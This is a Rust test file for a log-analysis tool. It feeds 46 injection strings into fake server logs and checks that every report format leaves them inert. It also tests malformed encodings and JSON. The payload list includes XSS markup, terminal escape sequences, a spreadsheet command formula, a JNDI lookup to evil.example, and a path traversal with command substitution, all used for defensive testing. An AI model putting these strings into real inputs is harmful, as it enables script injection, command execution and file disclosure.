//! Text that wants to be more than text, and files that want to be more than files: every case goes through every form of the report.

use super::{common, formats};
use fivexx::analysis::{Settings, analyze};
use fivexx::diagnosis::cause::Causes;
use fivexx::model::{Report, Verdict};
use fivexx::parser::catalog::Catalog;
use fivexx::parser::stamp::YearHint;
use fivexx::scanned::{Scan, ScannedFile};
use fivexx::source::discover;
use fivexx::source::read::{Progress, Reading, scan};
use std::fmt::Write;
use std::path::Path;
use std::sync::OnceLock;

/// Texts that somebody could send as a path, a host name or a user agent, or call a file.
const PAYLOADS: [(&str, &str); 46] = [
    ("screen cleared", "\x1b[2J\x1b[H"),
    ("title set", "\x1b]0;owned\x07"),
    ("link of a terminal", "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"),
    ("clipboard", "\x1b]52;c;ZXZpbA==\x07"),
    ("answer back", "\x1b[c\x1b[6n\x1b[5n"),
    ("keys", "\x1bP$q\"p\x1b\\"),
    ("8-bit controls", "\u{9b}2J\u{9d}0;x\u{9c}"),
    ("backspaces", "safe\x08\x08\x08\x08evil"),
    ("carriage return", "evil\rgood"),
    ("bell and form feed", "\x07\x0c\x0b"),
    ("delete", "a\x7f\x7fb"),
    ("html script", "<script>alert(1)</script>"),
    ("html image", "<img src=x onerror=alert(1)>"),
    ("html comment", "<!-- --><b>x</b><!--"),
    ("html closing", "</code></pre></td></table></svg></style></script>"),
    ("html entity", "&lt;script&gt;&#60;script&#62;"),
    ("html attribute", "\" onmouseover=\"alert(1)\" x=\""),
    ("svg", "<svg onload=alert(1)><use href=\"http://evil.example/x.svg#a\"/></svg>"),
    ("svg text", "]]></text><script>alert(1)</script>"),
    ("mermaid", "```mermaid\\ngraph TD; A[x]-->B; click A \"http://evil.example\"\\n```"),
    ("mermaid directive", "%%{init: {'theme':'base'}}%%; click A call alert()"),
    ("markdown link", "[click](http://evil.example/)"),
    ("markdown image", "![x](http://evil.example/t.png)"),
    ("markdown reference", "[x]: http://evil.example/"),
    ("autolink", "<http://evil.example/> http://evil.example/ www.evil.example"),
    ("markdown code", "`` ` ``` ~~~"),
    ("markdown fence", "````"),
    ("markdown table", "a|b|c\\|d"),
    ("markdown emphasis", "**bold** __b__ ~~no~~ *i* _i_"),
    ("markdown heading", "# evil"),
    ("markdown quote", "> evil"),
    ("markdown formula", "$\\href{http://evil.example}{x}$ $$x$$"),
    ("footnote", "[^1] [^1]: x"),
    ("right to left", "\u{202e}gpj.exe\u{202c}"),
    ("isolates", "\u{2066}x\u{2069}\u{2067}\u{2068}"),
    ("marks of direction", "\u{200e}\u{200f}\u{61c}"),
    ("nothing to see", "a\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}b"),
    ("tags", "a\u{e0041}\u{e0042}\u{e007f}b"),
    ("line separators", "a\u{2028}b\u{2029}c\u{85}d"),
    ("slack call", "<!channel> <!here> <@U024BE7LH> @everyone"),
    ("slack link", "<http://evil.example|safe.example>"),
    ("formula of a table", "=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("command of a table", "=cmd|' /C calc'!A0"),
    ("other formulas", "+1+1;-1+1;@SUM(1)"),
    ("placeholders", "{{7*7}} ${jndi:ldap://evil.example/a} %s%n {0} #{x}"),
    ("path", "../../../../etc/passwd; $(touch evil) `touch evil`"),
];

pub fn catalog() -> &'static Catalog {
    static CATALOG: OnceLock<Catalog> = OnceLock::new();
    CATALOG.get_or_init(|| Catalog::builtin().expect("the built-in parsers load"))
}

fn causes() -> &'static Causes {
    static CAUSES: OnceLock<Causes> = OnceLock::new();
    CAUSES.get_or_init(|| Causes::load(&[], catalog()).expect("the built-in causes load"))
}

/// What an analysis of a folder comes to, as the command does it.
pub fn analyzed(folder: &Path) -> Report {
    let found = discover(&[folder.to_owned()]);
    let (mut files, mut skipped) = (Vec::new(), found.skipped);
    for input in found.inputs {
        match scan(catalog(), &input, YearHint(common::NOW * 1000), &Progress::default()) {
            Reading::Scanned(tally) => files.push(ScannedFile { path: input.name, tally: *tally }),
            Reading::Skipped(because) => skipped.push(fivexx::source::Skipped { name: input.name, because }),
        }
    }
    report_of(Scan::new(catalog(), files, skipped))
}

pub fn report_of(scan: Scan) -> Report {
    let settings = Settings { now: common::NOW, ..Settings::default() };
    analyze(&scan, catalog(), causes(), &settings).expect("the timeline is built")
}

fn held(name: &str, report: &Report) {
    for written in formats::all(report) {
        let active = formats::active(&written);
        assert!(active.is_empty(), "{name}: {} lets through: {}\n{}", written.format, active.join("; "), written.text);
    }
}

/// An outage whose lines say `evil` wherever a client or a name has a say, in files that are named so.
fn outage(evil: &str) -> Vec<(String, Vec<u8>)> {
    let mut errors = String::new();
    let mut access = String::new();
    let mut app = String::new();
    for i in 0..240 {
        let (minute, second) = (i / 60, i % 60);
        let failing = (60..180).contains(&i);
        let status = if failing { 502 } else { 200 };
        for n in 0..4 {
            let _ = writeln!(
                access,
                "203.0.113.9 - {evil} [21/Nov/2026:00:{minute:02}:{second:02} +0000] \"GET /{evil}/{n} HTTP/1.1\" {status} 157 \"{evil}\" \"{evil}\""
            );
        }
        if failing {
            let _ = writeln!(
                errors,
                "2026/11/21 00:{minute:02}:{second:02} [error] 1#1: *{i} connect() to unix:/run/{evil}.sock failed (11: Resource temporarily unavailable) while connecting to upstream, client: 203.0.113.9, server: {evil}, request: \"GET /{evil} HTTP/1.1\", upstream: \"uwsgi://unix:/run/{evil}.sock:\", host: \"{evil}\""
            );
            let _ = writeln!(app, "{evil}");
            let _ = writeln!(app, "2026-11-21 00:{minute:02}:{second:02},123 ERROR shop.{evil} {evil}");
            let _ = writeln!(
                app,
                "Traceback (most recent call last):\n  File \"{evil}.py\", line 1, in {evil}\nshop.Error{evil}: {evil}"
            );
            let _ = writeln!(
                app,
                "Nov 21 00:{minute:02}:{second:02} {evil} nginx: 2026/11/21 00:{minute:02}:{second:02} [alert] 1#1: 1024 worker_connections are not enough"
            );
        }
    }
    let name: String = evil.chars().filter(|c| *c != '/' && *c != '\0').take(60).collect();
    vec![
        (format!("nginx/error{name}.log"), errors.into_bytes()),
        (format!("nginx/access{name}.log"), access.into_bytes()),
        (format!("app/app{name}.log"), app.into_bytes()),
    ]
}

#[test]
fn texts_that_want_to_be_more_than_text_stay_text() {
    for (name, evil) in PAYLOADS {
        let dir = tempfile::tempdir().expect("a folder");
        for (path, bytes) in outage(evil) {
            let path = dir.path().join(path);
            std::fs::create_dir_all(path.parent().expect("a folder")).expect("made");
            std::fs::write(path, bytes).expect("written");
        }
        let report = analyzed(dir.path());
        // Servers write quotes, controls and brackets of a client's as codes; lines that hold them as they are may be misread.
        let usual = !evil.contains(|c: char| c.is_control() || matches!(c, '"' | '['));
        assert!(report.verdict == Verdict::Incident || !usual, "{name}: {:?}", report.verdict);
        let paths = report.sources.iter().map(|s| &s.path).chain(report.skipped.iter().map(|s| &s.path));
        assert_eq!(paths.collect::<std::collections::BTreeSet<_>>().len(), 3, "{name}: a file is not mentioned");
        held(name, &report);
    }
}

/// As servers, shells and broken disks write files. The outage must be found in each; what could not be read must be said.
#[test]
fn files_of_every_make_give_their_answer() {
    let [(_, errors), (_, access), _] = &outage("shop")[..] else { panic!("three files") };
    let text = String::from_utf8(errors.clone()).expect("text");
    let le = |t: &str| -> Vec<u8> { t.encode_utf16().flat_map(u16::to_le_bytes).collect() };
    let be = |t: &str| -> Vec<u8> { t.encode_utf16().flat_map(u16::to_be_bytes).collect() };
    let mixed: String =
        text.lines().enumerate().map(|(i, l)| format!("{l}{}", ["\n", "\r\n", "\n\r\n", "\n\n"][i % 4])).collect();
    let invalid: Vec<u8> =
        text.lines().flat_map(|l| [l.as_bytes(), b" \xff\xfe\xc3\x28\xed\xa0\x80 \xf0\x28\n".as_slice()].concat()).collect();
    let torn = [&errors[..errors.len() / 2], &vec![0; 100_000], &errors[errors.len() / 2..]].concat();
    let nul: Vec<u8> = text.lines().flat_map(|l| [l.as_bytes(), b"\0\0\n"].concat()).collect();
    let long = [errors.as_slice(), &vec![b'x'; 3 << 20], b"\n"].concat();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("UTF-16, little end, marked", le(&format!("\u{feff}{text}"))),
        ("UTF-16, big end, marked", be(&format!("\u{feff}{text}"))),
        ("UTF-16, little end, not marked", le(&text)),
        ("UTF-16, big end, not marked", be(&text)),
        ("UTF-16, line ends of Windows", le(&format!("\u{feff}{}", text.replace('\n', "\r\n")))),
        ("UTF-16, cut in the middle of a pair", le(&format!("\u{feff}{text}"))[..errors.len()].to_vec()),
        (
            "UTF-16, halves of characters",
            [le(&format!("\u{feff}{text}")), vec![0x00, 0xd8, 0x00, 0xdc, 0x00, 0xd8, 0x0a, 0x00]].concat(),
        ),
        ("UTF-8, marked", format!("\u{feff}{text}").into_bytes()),
        ("bytes that are no UTF-8", invalid),
        ("mixed line ends", mixed.into_bytes()),
        ("line ends of old Macs between others", [errors.as_slice(), b"\r\r\r\n"].concat()),
        ("a hole of zeros", torn),
        ("zeros in lines", nul),
        ("a line of three megabytes", long),
        ("no line end at the end", errors[..errors.len() - 1].to_vec()),
        ("a line of 1970", [b"1970/01/01 00:00:00 [notice] 1#1: x\n".as_slice(), errors].concat()),
        ("a line of 2106", [errors.as_slice(), b"2106/02/07 06:28:15 [notice] 1#1: x\n"].concat()),
        ("a line of no date", [b"2026/13/45 27:61:99 [error] 1#1: connect() failed\n".as_slice(), errors].concat()),
        (
            "years of no calendar",
            [b"9999/12/31 23:59:59 [error] 1#1: x\n0000/00/00 00:00:00 [error] 1#1: x\n".as_slice(), errors].concat(),
        ),
        (
            "numbers without end",
            [
                b"1.2.3.4 - - [21/Nov/2026:00:00:39 +0000] \"GET / HTTP/1.1\" 99999999999999999999 1e999 \"-\" \"-\" rt=1e308\n"
                    .as_slice(),
                errors,
            ]
            .concat(),
        ),
        (
            "offsets of no zone",
            [b"1.2.3.4 - - [21/Nov/2026:00:00:39 +9999] \"GET / HTTP/1.1\" 502 1 \"-\" \"-\"\n".as_slice(), errors].concat(),
        ),
        ("nested JSON", [format!("{}{}\n", "[".repeat(50_000), "]".repeat(50_000)).into_bytes(), errors.clone()].concat()),
        ("JSON without end", [format!("{{\"a\":{}\n", "{\"a\":".repeat(50_000)).into_bytes(), errors.clone()].concat()),
    ];
    for (name, bytes) in cases {
        let dir = tempfile::tempdir().expect("a folder");
        std::fs::write(dir.path().join("error.log"), bytes).expect("written");
        std::fs::write(dir.path().join("access.log"), access).expect("written");
        let report = analyzed(dir.path());
        held(name, &report);
        assert_eq!(report.sources.len() + report.skipped.len(), report.sources.len(), "{name}: {:?}", report.skipped);
        let incident = report.incidents.first().unwrap_or_else(|| panic!("{name}: no incident"));
        assert_eq!(incident.dropped_at.mechanism, "listen_queue_full", "{name}");
    }
}

/// What says that it is a document of metrics, and is not.
#[test]
fn documents_that_are_none_are_said_to_be_none() {
    for (name, bytes) in [
        ("cut", br#"{"MetricDataResults":[{"Id":"m1","Label":"HTTPCode_ELB_5XX_Count","Timestamps":["2026"#.to_vec()),
        ("deep", format!("{{\"MetricDataResults\":{}", "[".repeat(200_000)).into_bytes()),
        ("wrong types", br#"{"MetricDataResults":[{"Id":1,"Label":{},"Timestamps":"x","Values":[null,"NaN",1e999]}]}"#.to_vec()),
        ("matrix", br#"{"status":"success","data":{"resultType":"matrix","result":[{"metric":{"__name__":"x"},"values":[[1e300,"Inf"],[-1,"NaN"]]}]}}"#.to_vec()),
        ("picture", [b"\x89PNG\r\n\x1a\n".as_slice(), &(0..5000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect::<Vec<_>>()].concat()),
        ("nothing but zeros", vec![0; 1 << 20]),
        ("empty", Vec::new()),
        ("a newline", b"\n".to_vec()),
    ] {
        let dir = tempfile::tempdir().expect("a folder");
        std::fs::write(dir.path().join("x.json"), bytes).expect("written");
        let report = analyzed(dir.path());
        held(name, &report);
        assert!(report.incidents.is_empty(), "{name}");
        assert!(report.skipped.iter().any(|s| !s.because.is_empty()) || !report.sources.is_empty(), "{name}: not mentioned");
    }
}
